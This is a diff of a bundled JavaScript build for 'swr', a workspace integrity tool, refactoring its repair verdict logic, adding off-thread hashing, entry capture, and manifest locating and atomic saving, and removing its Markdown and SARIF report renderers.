     // The verdict comes from an uncached check of the whole selection, restore included: a recipe
     // may damage an entry it was not asked to touch, and only a full re-check sees that.
-    const final = interrupted
-        ? merge(before, m, steps, opts, true)
-        : merge(await check(false, proven), m, steps, opts, false);
-    const harmed = collateral(before, final, steps);
+    const final = reportFor(interrupted
+        ? finalFindings(first, steps, true)
+        : finalFindings(await verify(false, proven), steps, false));
+    const harmed = collateral(first.findings, final.results, steps);
     hooks.onFinal?.(final);
-    const [outcome, code] = verdict(final, steps, interrupted, harmed);
-    return finish(outcome, code, steps, final, gate, harmed);
+    return finish(verdict(final, steps, interrupted, harmed), steps, final, gate, harmed);
 }
 /**
  * Entries that verified before the repair and do not after it: damage a recipe did on the side.
  * Each is named with the steps that ran before the re-check found it (the likely culprits).
  */
 function collateral(before, final, steps) {
-    const wasOk = new Set(before.results.filter(f => f.status === 'OK').map(f => f.id));
+    const wasOk = new Set(before.filter(f => f.status === 'OK').map(f => f.id));
     const ran = steps.filter(s => s.outcome !== 'skipped' && s.source === 'recipe').map(s => s.id);
-    return final.results
+    return final
         .filter(f => wasOk.has(f.id) && f.status !== 'OK' && f.status !== 'SKIPPED')
         .map(f => ({ id: f.id, status: f.status, detail: f.detail, after: ran }));
 }
@@ -43307,31 +43688,16 @@ function writeBack(m, steps) {
             : [];
     });
 }
-/** Which entries have a cache saved for exactly their expected state (no download). */
-async function lookupSavedStates(m, entries, cache) {
-    const out = [];
-    for (const e of entries) {
-        const key = stateKey(e);
-        out.push({
-            id: e.id,
-            key,
-            available: await cache.lookup(paths_resolveEntryPath(m.workspace, e.path), key)
-        });
-    }
-    return out;
-}
 /**
- * The report of the final state, from `base` (the final check, or the first check when an
+ * The findings of the final state, from `base` (the final check, or the first check when an
  * interruption left no time for one): entries whose step was skipped because a dependency failed
  * are SKIPPED rather than their damage; with `stepFindings`, each step's own re-verification
  * stands for its entry.
  */
-function merge(base, m, steps, opts, stepFindings) {
+function finalFindings(base, steps, stepFindings) {
     const after = new Map(stepFindings ? steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])) : []);
     const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
-    if (after.size === 0 && skipped.size === 0)
-        return base;
-    const findings = base.results.map(f => {
+    const findings = base.findings.map(f => {
         const a = after.get(f.id);
         if (a)
             return a;
@@ -43340,24 +43706,326 @@ function merge(base, m, steps, opts, stepFindings) {
             ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why }
             : f;
     });
-    return buildReport({
-        command: opts.mode,
-        version: opts.version,
-        manifest: m,
-        findings,
-        options: base.options,
-        started: new Date(base.timing.started),
-        ms: Date.now() - Date.parse(base.timing.started)
-    });
+    return { ...base, findings, ms: Date.now() - base.started.getTime() };
 }
 function verdict(final, steps, interrupted, harmed) {
     if (interrupted)
-        return ['interrupted', errors_EXIT.INTERRUPTED];
+        return 'interrupted';
     if (final.verdict === 'healthy')
-        return ['repaired', errors_EXIT.HEALTHY];
+        return 'repaired';
     if (harmed.length > 0 || steps.some(s => s.outcome === 'still-damaged'))
-        return ['still-damaged', errors_EXIT.STILL_DAMAGED];
-    return ['unrepairable', errors_EXIT.UNREPAIRABLE];
+        return 'still-damaged';
+    return 'unrepairable';
+}
+
+;// CONCATENATED MODULE: ./src/core/hash-off-thread.ts
+/**
+ * Hashing one large file on a worker thread, with the verifiers' own kernel, so the main thread's
+ * event loop stays live meanwhile: a lock holder refreshes its lock, signals are handled. A small
+ * file is hashed inline (a worker costs 30-50 ms to start).
+ */
+
+
+
+const hash_off_thread_INLINE_BYTES = (/* unused pure expression or super */ null && (16 * 1024 * 1024));
+function hash_off_thread_hashOffThread(abs, how, size) {
+    if (size < hash_off_thread_INLINE_BYTES)
+        return Promise.resolve(runJob(abs, how));
+    return new Promise((resolve, reject) => {
+        const counter = new SharedArrayBuffer(4);
+        const w = new Worker(kernelUrl(), {
+            workerData: { swrHashWorker: true, paths: [abs], hows: [how], counter }
+        });
+        let result;
+        w.on('message', (m) => {
+            if (m === 'done')
+                void w.terminate();
+            else
+                for (const [, r] of m)
+                    result = r;
+        });
+        w.on('error', reject);
+        w.on('exit', () => result ? resolve(result) : reject(new Error('hash worker ended without a result')));
+    });
+}
+
+;// CONCATENATED MODULE: ./src/core/capture.ts
+/**
+ * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
+ * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
+ * captured entry verifies by construction.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Files at least this large are tracked as blobs unless a kind is given. */
+const capture_BLOB_THRESHOLD = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
+/** Build and project files whose presence at a tree's root says what the tree is. */
+const capture_PROJECT_MARKERS = [
+    'package.json',
+    'CMakeLists.txt',
+    'go.mod',
+    'Cargo.toml',
+    'pyproject.toml',
+    'setup.py',
+    'Makefile',
+    'pom.xml',
+    'build.gradle',
+    'Gemfile'
+];
+/** Markers whose presence at a tree's root makes a good sentinel. */
+const MARKERS = [...capture_PROJECT_MARKERS, 'SKILL.md', 'README.md'];
+/** An id for `rel` that matches the id rule and is not in `taken`. */
+function deriveId(rel, taken) {
+    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
+        .replace(/[^A-Za-z0-9._-]+/g, '-')
+        .replace(/^[.-]+/, '')
+        .slice(0, 100) || 'entry';
+    let id = base;
+    for (let n = 2; taken.has(id); n++)
+        id = `${base}-${n}`;
+    return id;
+}
+async function capture_captureEntry(workspace, req, taken, opts = {}) {
+    const pool = opts.pool ?? {};
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    const st = loc.st;
+    const kind = req.kind ??
+        (st.isSymbolicLink()
+            ? 'link'
+            : st.isDirectory()
+                ? 'tree'
+                : Number(st.size) >= capture_BLOB_THRESHOLD
+                    ? 'blob'
+                    : 'file');
+    const mode = Number(st.mode & 4095n);
+    const wrongType = (want) => new UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
+    if ((kind === 'file' || kind === 'blob') && !st.isFile())
+        throw wrongType('a regular file');
+    if (kind === 'tree' && !st.isDirectory())
+        throw wrongType('a directory');
+    if (kind === 'link' && !st.isSymbolicLink())
+        throw wrongType('a symlink');
+    const id = req.id ?? deriveId(req.path, taken);
+    if (!ENTRY_ID.test(id))
+        throw new UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
+    if (taken.has(id))
+        throw new UsageError(`entry "${id}" already exists in the manifest`);
+    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
+    const secret = kind === 'file'
+        ? secretReason({
+            rel: req.path,
+            abs: loc.abs,
+            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
+        })
+        : undefined;
+    const note = req.note ?? (secret !== undefined ? SECRET_NOTE : undefined);
+    const common = {
+        id,
+        path: req.path,
+        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
+        needs: req.needs ?? [],
+        ...(req.restore !== undefined ? { restore: req.restore } : {}),
+        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
+        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
+        ...(note !== undefined ? { note } : {})
+    };
+    switch (kind) {
+        case 'file': {
+            if (req.fullHash === false)
+                throw new UsageError(`${req.path}: --no-full-hash is for blobs (add it with --kind blob)`);
+            // Off the main thread when large, so the event loop (lock refresh, signals) stays live.
+            const d = await steadily(req.path, loc.abs, async () => {
+                const r = await hashOffThread(loc.abs, 'full', Number(st.size));
+                if ('error' in r)
+                    throw new UsageError(`${req.path}: cannot read (${r.error})`);
+                return r;
+            });
+            return {
+                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: octal(d.mode) } }
+            };
+        }
+        case 'blob': {
+            if (req.fullHash === false) {
+                const ht = await steadily(req.path, loc.abs, async () => hashHeadTail(loc.abs));
+                const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+                return { entry: { ...common, kind, expect } };
+            }
+            const { ht, full } = await steadily(req.path, loc.abs, async () => {
+                const ht = hashHeadTail(loc.abs);
+                const full = await hashOffThread(loc.abs, 'full', ht.size);
+                if ('error' in full)
+                    throw new UsageError(`${req.path}: cannot read (${full.error})`);
+                // Two sizes for one file mean it changed between the two reads: -1 matches no state.
+                return { ht, full, size: full.size === ht.size ? ht.size : -1 };
+            });
+            return {
+                entry: {
+                    ...common,
+                    kind,
+                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: octal(ht.mode) }
+                }
+            };
+        }
+        case 'link': {
+            const target = fs.readlinkSync(loc.abs);
+            // The link verifier's own walk: what it would call BROKENLNK is refused now, not recorded.
+            const end = followInside(workspace, loc.abs, target);
+            if (end.state === 'dangling')
+                throw new UsageError(`${req.path}: cannot add: the symlink -> ${shownName(target)} is broken (${shownName(end.why)}); add it once its target exists`);
+            return { entry: { ...common, kind, expect: { target } } };
+        }
+        case 'tree':
+            return captureTree(fs.realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
+    }
+}
+/** Tries at capturing a file or tree that keeps changing while it is read, before refusing. */
+const ATTEMPTS = 3;
+/** What must not move while a file is hashed: a hash of no single state can never match. */
+function sameState(a, b) {
+    return (a !== undefined &&
+        b !== undefined &&
+        a.ino === b.ino &&
+        a.size === b.size &&
+        a.mtimeNs === b.mtimeNs &&
+        a.ctimeNs === b.ctimeNs);
+}
+function changedWhileRead(shown, before, after) {
+    const sizes = after === undefined ? 'then vanished' : `size ${before} -> ${after}`;
+    return new UsageError(`${shown}: cannot add: changed while it was read (${sizes}, ${ATTEMPTS} tries); add it once nothing writes to it`);
+}
+/**
+ * Hash a file with its state read before and after: a file that grows or is rewritten meanwhile
+ * is hashed again, and refused when it never holds still.
+ */
+async function steadily(shown, abs, hash) {
+    let before = fs.lstatSync(abs, { bigint: true });
+    let after;
+    for (let attempt = 1;; attempt++) {
+        const r = await hash();
+        after = fs.lstatSync(abs, { bigint: true, throwIfNoEntry: false });
+        if (sameState(before, after) && BigInt(r.size) === before.size)
+            return r;
+        if (attempt === ATTEMPTS || !after)
+            throw changedWhileRead(shown, before.size, after?.size);
+        before = after;
+    }
+}
+function defaultTier(kind, rel, mode) {
+    if (kind === 'blob')
+        return 3;
+    if (kind === 'tree')
+        return underVolatileDir(rel) ? 4 : 2;
+    if (kind === 'link')
+        return 1;
+    return (mode & 0o111) !== 0 ? 1 : 2;
+}
+async function captureTree(root, req, common, pool, exclude) {
+    const ignore = req.ignore ?? [];
+    let walk;
+    let extras;
+    for (let attempt = 1;; attempt++) {
+        walk = walkTree(root, ignore, exclude);
+        if (walk.unreadable.length > 0) {
+            const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
+            throw new UsageError(`${req.path}: cannot read ${shown.join(', ')}`);
+        }
+        extras = linkTargets(root, walk.records);
+        const moved = await hashTreeFiles(root, req.path, walk.records, extras, pool);
+        if (!moved)
+            break;
+        if (attempt === ATTEMPTS)
+            throw changedWhileRead(`${req.path}/${shownName(moved.rel)}`, ...moved.sizes);
+    }
+    const records = walk.records.map((r, i) => ({
+        rel: r.rel,
+        type: r.type,
+        mode: r.mode,
+        size: r.size,
+        extra: extras[i]
+    }));
+    const index = encodeIndex(records);
+    const sentinels = req.sentinels ??
+        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
+    for (const s of sentinels) {
+        const loc = locateInside(root, s);
+        if (loc.state !== 'present')
+            throw new UsageError(`--sentinel ${s}: not found in ${req.path}`);
+        if (loc.st.isFile() && loc.st.size === 0n)
+            throw new UsageError(`--sentinel ${s}: is empty in ${req.path}`);
+    }
+    const entry = {
+        ...common,
+        kind: 'tree',
+        ignore,
+        expect: {
+            sentinels,
+            min_files: req.minFiles ?? walk.files,
+            max_files: req.maxFiles ?? walk.files,
+            files: walk.files,
+            meta_digest: metaDigestOf(walk.records),
+            content_digest: contentDigest(walk.records, extras),
+            index: indexRef(index, records.length)
+        }
+    };
+    return { entry, index };
+}
+/**
+ * Hash every file of a walk into `extras`; the first file whose state moved since the walk saw it
+ * (a hash of no single state) is returned instead of being trusted.
+ */
+async function hashTreeFiles(root, shown, records, extras, pool) {
+    const jobs = [];
+    const at = [];
+    records.forEach((r, i) => {
+        if (r.type === 'f') {
+            jobs.push({ abs: path.join(root, r.rel), how: 'full', cost: r.size });
+            at.push(i);
+        }
+    });
+    const results = await hashAll(jobs, pool);
+    for (let k = 0; k < results.length; k++) {
+        const res = results[k];
+        const r = records[at[k]];
+        if ('error' in res)
+            throw new UsageError(`${shown}/${shownName(r.rel)}: cannot read (${res.error})`);
+        const now = fs.lstatSync(fsPath(path.join(root, r.rel)), {
+            bigint: true,
+            throwIfNoEntry: false
+        });
+        const then = { ino: r.ino, size: BigInt(r.size), mtimeNs: r.mtimeNs, ctimeNs: r.ctimeNs };
+        if (!sameState(then, now) || res.size !== r.size)
+            return { rel: r.rel, sizes: [then.size, now?.size] };
+        extras[at[k]] = res.sha256;
+    }
+    return undefined;
+}
+/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
+function pickSentinels(files) {
+    // A sentinel is a manifest path: names that are not (not UTF-8, not NFC) cannot be one.
+    files = files.filter(f => innerPathProblem(f) === undefined);
+    const set = new Set(files);
+    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
+    const deepest = [...files]
+        .filter(f => !f.split('/').some(s => VOLATILE_DIRS.has(s)))
+        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
+    if (deepest && !picked.includes(deepest))
+        picked.push(deepest);
+    return picked;
 }
 
 ;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
@@ -43421,8 +44089,8 @@ function import_v2_int(v) {
 }
 function convertEntry(raw, workspace, where, notes) {
     const id = str(raw.id);
-    if (id === undefined || !ENTRY_ID.test(id)) {
-        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${ENTRY_ID.source}`;
+    if (id === undefined || !paths_ENTRY_ID.test(id)) {
+        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${paths_ENTRY_ID.source}`;
     }
     const named = `${where} ("${id}")`;
     const rawPath = str(raw.path);
@@ -43432,7 +44100,7 @@ function convertEntry(raw, workspace, where, notes) {
         ? external_node_path_default().relative(workspace, rawPath)
         : external_node_path_default().posix.normalize(rawPath);
     const spelled = rel === '' ? '.' : rel.split((external_node_path_default()).sep).join('/').replace(/\/+$/, '');
-    const problem = pathProblem(spelled);
+    const problem = paths_pathProblem(spelled);
     if (problem)
         return `${named}: path ${escape_escapeText(rawPath, { max: QUOTE_MAX })} ${problem}`;
     const tierRaw = import_v2_int(raw.tier) ?? 2;
@@ -43725,11 +44393,11 @@ function describe(code) {
 const lastSeen = new Map();
 const sha = (bytes) => (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
 /** Record the bytes just read from (or written to) `file`. */
-function noteManifestBytes(file, bytes) {
+function read_fingerprint_noteManifestBytes(file, bytes) {
     lastSeen.set(external_node_path_default().resolve(file), sha(bytes));
 }
 /** Throw unless `file` holds what this process last read or wrote there (when it read it at all). */
-function assertUnchangedSinceRead(file) {
+function read_fingerprint_assertUnchangedSinceRead(file) {
     const abs = path.resolve(file);
     const seen = lastSeen.get(abs);
     if (seen === undefined)
@@ -43902,7 +44570,7 @@ function ruleProblems(doc, where) {
         if (ids.has(e.id))
             out.push(`${at(i, 'id')} duplicates entry #${(ids.get(e.id) ?? 0) + 1}`);
         ids.set(e.id, i);
-        const problem = pathProblem(e.path);
+        const problem = paths_pathProblem(e.path);
         if (problem)
             out.push(`${at(i, 'path')} ${problem}`);
         const other = paths.get(e.path);
@@ -43929,7 +44597,7 @@ function kindProblems(e) {
         return [];
     const out = [];
     e.expect.sentinels.forEach((s, k) => {
-        const problem = innerPathProblem(s);
+        const problem = paths_innerPathProblem(s);
         if (problem)
             out.push({ field: `expect/sentinels/${k}`, text: problem });
     });
@@ -43998,21 +44666,21 @@ function loadManifest(file, opts = {}) {
     const abs = external_node_path_default().resolve(opts.cwd ?? process.cwd(), file);
     const shown = external_node_path_default().relative(opts.cwd ?? process.cwd(), abs) || abs;
     const text = readBounded(abs, shown);
-    const { doc, format, lines, notes } = parseManifestText(text, shown);
+    const { doc, format, lines, notes } = load_parseManifestText(text, shown);
     const workspace = resolveWorkspace(abs, doc.body.workspace, opts);
     return {
         file: abs,
         format,
         doc,
         body: doc.body,
-        digest: manifestDigest(doc.body),
+        digest: canonical_manifestDigest(doc.body),
         workspace,
         lines,
         notes
     };
 }
 /** Strict parse, format detection and validation of manifest text; `shown` names it in messages. */
-function parseManifestText(text, shown) {
+function load_parseManifestText(text, shown) {
     let parsed;
     try {
         parsed = parseStrictJson(text);
@@ -44079,7 +44747,7 @@ function readBounded(abs, shown) {
                 break;
             got += n;
         }
-        noteManifestBytes(abs, buf.subarray(0, got));
+        read_fingerprint_noteManifestBytes(abs, buf.subarray(0, got));
         const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
         try {
             return decoder.decode(buf.subarray(0, got)).replace(/^\uFEFF/, '');
@@ -44110,241 +44778,118 @@ function resolveWorkspace(manifestFile, declared, opts) {
     return real;
 }
 
-;// CONCATENATED MODULE: ./src/core/report/severity.ts
-const RANK = {
-    MISSING: 0,
-    EMPTY: 1,
-    TYPE: 2,
-    CORRUPT: 3,
-    BROKENLNK: 4,
-    SMOKEFAIL: 5,
-    STRIPPED: 6,
-    SKIPPED: 7,
-    OK: 8
-};
-/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
-function bySeverity(findings) {
-    return findings
-        .filter(f => f.status !== 'OK')
-        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
-}
-
-;// CONCATENATED MODULE: ./src/core/report/annotations.ts
-
-
-function annotationsFor(report, ctx) {
-    const max = ctx.maxErrors ?? 10;
-    const out = [];
-    const left = [];
-    for (const f of bySeverity(report.results)) {
-        const advice = report.diagnosis.advice.find(a => a.id === f.id);
-        const message = `${escape_escapeText(f.detail)}${advice ? `\nCause: ${escape_escapeText(advice.cause)}\nFix: ${escape_escapeText(advice.fix)}` : ''}`;
-        const title = `swr: ${f.status} ${escape_escapeText(f.id)}`;
-        const places = [
-            { level: 'error', title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
-        ];
-        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
-        if (own)
-            places.push({ level: 'error', title, message, file: own, startLine: 1 });
-        if (left.length > 0 || out.length + places.length > max) {
-            left.push(`${f.status} ${escape_escapeText(f.id)}`);
-            continue;
-        }
-        out.push(...places);
-    }
-    if (left.length > 0) {
-        out.push({
-            level: 'notice',
-            title: `swr: ${left.length} more damaged entries`,
-            message: `${left.join(', ')} (GitHub shows at most ${max} error annotations per step; see the job summary)`
-        });
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/report/markdown.ts
-
-
-const SUMMARY_LIMIT = 1024 * 1024;
-const BUDGET = SUMMARY_LIMIT - 16 * 1024;
-const ICON = {
-    healthy: '✅',
-    repaired: '🛠️',
-    damaged: '❌',
-    unrepairable: '❌',
-    'still-damaged': '❌',
-    refused: '⛔',
-    interrupted: '⏹️'
-};
-/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
-function cell(s) {
-    return escapeMarkdown(s);
-}
-function markdown_shown(v) {
-    return Object.entries(v)
-        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
-        .join(', ');
-}
-function isRepair(r) {
-    return 'repair' in r;
-}
-function renderMarkdown(r, ctx = {}) {
-    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
-    const head = [];
-    const s = r.summary;
-    const what = isRepair(r) && r.repair.steps.length > 0
-        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
-        : `${s.ok}/${s.entries} entries healthy`;
-    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
-    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
-    if (signature !== 'healthy') {
-        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
-    }
-    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
-        head.push(`> [!WARNING]`, `> No recipe ran: ${cell(r.repair.gate.reason)}`, '');
-    }
-    const rows = bySeverity(r.results).map(f => `| ${f.status} | ${markdownCode(f.id)} | ${markdownCode(f.path)} | ${f.tier} | ${cell(f.detail)} | ${cell(markdown_shown(f.recorded))} | ${cell(markdown_shown(f.found))} |`);
-    const table = rows.length > 0
-        ? [
-            '| Status | Entry | Path | Tier | Found | Recorded | Now |',
-            '|---|---|---|---|---|---|---|'
-        ]
-        : [];
-    const tail = [];
-    if (isRepair(r) && r.repair.steps.length > 0) {
-        tail.push('', '#### Repair', '', '| # | Entry | Tier | Source | Result | Exit | Time |', '|---|---|---|---|---|---|---|');
-        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
-        r.repair.steps.forEach((st, i) => {
-            const exit = st.recipe
-                ? st.recipe.timedOut
-                    ? 'timeout'
-                    : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
-                : '';
-            const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
-            tail.push(`| ${i + 1} | ${markdownCode(st.id)} | ${tiers.get(st.id) ?? ''} | ${cell(st.source)} | ${st.outcome}: ${cell(st.detail)} | ${exit} | ${time} |`);
-        });
-    }
-    else if (isRepair(r) && r.repair.plan.length > 0) {
-        tail.push('', '#### Repair plan (not run)', '');
-        for (const st of r.repair.plan.flat())
-            tail.push(`- tier ${st.tier} ${markdownCode(st.id)} from ${cell(st.source)}${st.after.length ? ` after ${cell(st.after.join(', '))}` : ''}`);
-    }
-    tail.push('', `<sub>manifest ${cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`);
-    return fit(head, table, rows, tail, ctx);
-}
-/** Join the parts, cutting table rows (never the head or tail) to stay under the summary limit. */
-function fit(head, table, rows, tail, ctx) {
-    const fixed = Buffer.byteLength([...head, ...table, ...tail].join('\n')) + 512;
-    const kept = [];
-    let used = fixed;
-    for (const row of rows) {
-        const n = Buffer.byteLength(row) + 1;
-        if (used + n > BUDGET)
-            break;
-        kept.push(row);
-        used += n;
-    }
-    const cut = rows.length - kept.length;
-    const note = cut > 0
-        ? [
-            `| … | ${cut} more rows | | | see ${ctx.reportPath ? markdownCode(ctx.reportPath) : 'the JSON report'} | | |`
-        ]
-        : [];
-    const healthyNote = rows.length === 0 ? ['All entries verify.'] : [];
-    return [...head, ...healthyNote, ...table, ...kept, ...note, ...tail].join('\n') + '\n';
-}
-
-;// CONCATENATED MODULE: ./src/core/report/sarif.ts
+;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
 /**
- * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
- * status, one result per damaged entry, located at the line of the manifest that declares it.
+ * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
+ * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
+ * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
+ */
+
+
+const MANIFEST_DIR = '.swr';
+const MANIFEST_NAME = 'manifest.json';
+/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
+function locateManifest(input) {
+    if (input.flag)
+        return { file: path.resolve(input.cwd, input.flag), how: 'flag' };
+    if (input.env)
+        return { file: path.resolve(input.cwd, input.env), how: 'env' };
+    for (let dir = path.resolve(input.cwd);; dir = path.dirname(dir)) {
+        const candidate = path.join(dir, MANIFEST_DIR, MANIFEST_NAME);
+        if (fs.existsSync(candidate))
+            return { file: candidate, how: 'found' };
+        if (dir === path.dirname(dir))
+            break;
+    }
+    const home = path.join(input.home, MANIFEST_DIR, MANIFEST_NAME);
+    if (fs.existsSync(home))
+        return { file: home, how: 'home' };
+    return { file: path.join(path.resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/write.ts
+/**
+ * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
+ * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
  */
 
 
 
-const RULE_TEXT = {
-    OK: 'The entry verifies.',
-    MISSING: 'A tracked entry is missing from the workspace.',
-    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
-    STRIPPED: 'A tracked entry lost an exec bit it should have.',
-    EMPTY: 'A tracked directory survived with no files in it.',
-    BROKENLNK: 'A tracked symlink points at something that does not exist.',
-    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
-    SKIPPED: 'The entry was not repaired because a dependency failed.',
-    SMOKEFAIL: "The entry's files verify but its smoke command fails."
-};
-const LEVEL = {
-    OK: 'note',
-    MISSING: 'error',
-    CORRUPT: 'error',
-    STRIPPED: 'warning',
-    EMPTY: 'error',
-    BROKENLNK: 'error',
-    TYPE: 'error',
-    SKIPPED: 'warning',
-    SMOKEFAIL: 'error'
-};
-function toSarif(report, ctx) {
-    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
-        id: `swr/${s}`,
-        name: s,
-        shortDescription: { text: RULE_TEXT[s] },
-        defaultConfiguration: { level: LEVEL[s] },
-        helpUri: 'https://swr.dev/docs/statuses'
-    }));
-    const results = bySeverity(report.results).map(f => {
-        const advice = report.diagnosis.advice.find(a => a.id === f.id);
-        return {
-            ruleId: `swr/${f.status}`,
-            ruleIndex: rules.findIndex(r => r.name === f.status),
-            level: LEVEL[f.status],
-            message: {
-                text: `${f.status} ${escape_escapeText(f.id)} (${escape_escapeText(f.path)}): ${escape_escapeText(f.detail)}${advice ? `. Fix: ${escape_escapeText(advice.fix)}` : ''}`
-            },
-            locations: [
-                {
-                    physicalLocation: {
-                        artifactLocation: { uri: ctx.manifestUri },
-                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
-                    },
-                    logicalLocations: [
-                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
-                    ]
-                }
-            ],
-            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
-            properties: {
-                tier: f.tier,
-                kind: f.kind,
-                path: f.path,
-                reason: f.reason,
-                recorded: f.recorded,
-                found: f.found
-            }
-        };
-    });
+
+
+const SCHEMA_URL = 'https://swr.dev/schema/manifest-v3.schema.json';
+/** The workspace as the manifest records it: relative when the manifest sits inside it. */
+function spellWorkspace(manifestFile, workspace) {
+    const dir = path.dirname(path.resolve(manifestFile));
+    if (isInside(workspace, dir))
+        return path.relative(dir, workspace) || '.';
+    return workspace;
+}
+function newDocument(manifestFile, workspace, now) {
     return {
-        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
-        version: '2.1.0',
-        runs: [
-            {
-                tool: {
-                    driver: {
-                        name: 'swr',
-                        version: report.tool.version,
-                        informationUri: 'https://swr.dev',
-                        rules
-                    }
-                },
-                results,
-                properties: {
-                    verdict: report.verdict,
-                    wipeSignature: report.diagnosis.signature,
-                    manifestDigest: report.manifest.digest
-                }
-            }
-        ]
+        $schema: SCHEMA_URL,
+        body: {
+            schema: 3,
+            version: 1,
+            workspace: spellWorkspace(manifestFile, workspace),
+            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
+            entries: []
+        },
+        signatures: []
     };
+}
+const ENTRY_KEYS = (/* unused pure expression or super */ null && ([
+    'id',
+    'kind',
+    'path',
+    'tier',
+    'needs',
+    'restore',
+    'timeout_s',
+    'env',
+    'secret_env',
+    'smoke',
+    'note',
+    'ignore',
+    'expect',
+    'escrow'
+]));
+function orderEntry(e) {
+    const src = e;
+    const out = {};
+    for (const k of ENTRY_KEYS)
+        if (src[k] !== undefined)
+            out[k] = src[k];
+    // Fields without a place in the order keep theirs after the known ones: never drop data.
+    for (const [k, v] of Object.entries(src))
+        if (!(k in out) && v !== undefined)
+            out[k] = v;
+    return out;
+}
+function write_serializeDocument(doc) {
+    const body = {
+        schema: 3,
+        version: doc.body.version,
+        workspace: doc.body.workspace,
+        created: doc.body.created,
+        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
+        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
+        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
+        entries: doc.body.entries.map(orderEntry)
+    };
+    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
+}
+function saveManifest(file, doc, opts = {}) {
+    if (!opts.create)
+        assertUnchangedSinceRead(file);
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    for (const [p, bytes] of opts.sidecars ?? []) {
+        fs.mkdirSync(path.dirname(p), { recursive: true });
+        writeFileAtomic(p, bytes);
+    }
+    const bytes = Buffer.from(write_serializeDocument(doc), 'utf8');
+    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
+    noteManifestBytes(file, bytes);
 }
 
 // EXTERNAL MODULE: external "node:util"
@@ -44527,768 +45072,766 @@ function quarantineLine(q) {
